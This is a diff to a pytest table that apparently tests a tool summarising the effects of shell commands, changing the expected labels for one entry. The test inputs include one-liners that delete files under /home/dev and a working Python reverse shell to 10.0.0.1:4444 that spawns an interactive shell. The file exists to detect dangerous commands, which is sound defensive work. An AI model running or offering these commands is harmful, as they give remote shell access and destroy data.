@@ -32,7 +32,7 @@ import pytest
     ('php -r \'unlink("/home/dev/x");\'', ['php D:~/x']),
     ('lua -e \'os.execute("rm -r /home/dev/x")\'', ['lua', 'rm D:~/x']),
     ('osascript -e \'do shell script "rm -r /home/dev/x"\'', ['osascript', 'rm D:~/x']),
-    ('python3 -c "import socket,subprocess,os;s=socket.socket();s.connect((\'10.0.0.1\',4444));os.dup2(s.fileno(),0);subprocess.call([\'/bin/sh\',\'-i\'])"', ['python3 H:10.0.0.1', 'sh']),
+    ('python3 -c "import socket,subprocess,os;s=socket.socket();s.connect((\'10.0.0.1\',4444));os.dup2(s.fileno(),0);subprocess.call([\'/bin/sh\',\'-i\'])"', ['python3 H:10.0.0.1 <download', 'sh <download']),
 ])
 def test_effects_of_code(brief, command, expected):
     assert brief(command) == expected
